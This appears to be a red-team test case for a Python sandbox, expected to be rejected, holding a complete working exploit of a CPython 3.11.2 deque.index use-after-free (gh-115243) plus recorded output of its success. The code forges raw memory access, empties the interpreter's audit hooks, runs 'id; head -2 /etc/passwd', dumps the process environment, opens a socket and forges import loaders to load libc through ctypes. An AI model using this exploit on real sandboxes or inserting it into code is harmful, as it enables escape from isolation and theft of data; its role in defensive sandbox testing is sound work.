# expect: reject memory
# line: 53
# verified: the runtime wall's red team, round 9, ok_06 (deque.index, gh-115243; every goal reached with the wall on); its raw-memory primitive reproduced under plain python3 3.11.2; other rules refuse it too
# ok_06: FULL ESCAPE: collections.deque.index borrowed-item use-after-free (gh-115243) -> raw memory -> hook list emptied
#
# Family: memory safety of CPython 3.11.2, a sibling of ok_01 (a borrowed item handed to
#   a rich comparison whose first half frees it; the reflected half gets the dangling
#   pointer). deque is not a patched type.
# Mechanism: deque_index in 3.11.2 does `item = b->data[index]; cmp =
#   PyObject_RichCompareBool(item, v, Py_EQ)` without a reference (fixed in 3.11.9 /
#   3.12.3). V.__eq__ clears the deque and answers NotImplemented: V (an 80-byte GC
#   block, __slots__ of six) dies as its frame ends; do_richcompare then calls the
#   reflected T.__eq__(t, item) with the dangling item; in there bytearray(FAKE)'s
#   74-byte buffer takes the block back with a fake PyByteArrayObject after the GC head
#   (ob_size 2**62, ob_start NULL); T keeps `o`. index() then raises RuntimeError
#   ("deque mutated during iteration"): too late. Then as wall8 ok_01.
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames/globals; native library (ctypes + libc).
# Plain python3 (image's 3.11.2): primitive works, first try.
# Deterministic: first try, 3 of 3 sb-run runs.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r9; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 69 ms, cpu 33 ms, memory peak 23360 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=7c0077bd86a0 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 7 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys, collections
import asyncio   # its preload part brings socket (and _socket) before the run
os = sys.modules["os"]
keep = []
W = lambda v: v.to_bytes(8, "little")
# a fake PyByteArrayObject at offset 16 of an 80-byte block (after the GC head)
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
box = []
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")   # 16 GC head + 64: an 80-byte block
    def __eq__(s, o):
        box[0].clear()           # the deque held the other reference to self
        return NotImplemented    # self dropped on return: freed, still used by C
class T:
    def __eq__(s, o):            # the reflected compare, o = the freed V
        keep.append(bytearray(FAKE))   # a 74-byte buffer takes V's block back
        keep.append(o)
        return False
def raw_memory():
    """collections.deque.index (gh-115243, fixed in 3.11.9): compares a BORROWED item
    with the value; V.__eq__ empties the deque and answers NotImplemented, V dies,
    do_richcompare calls T.__eq__ with the dangling item (then index raises
    RuntimeError: too late)."""
    box.append(collections.deque([V()]))
    try:
        box[0].index(T())
    except RuntimeError:
        pass
    return keep[-1]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
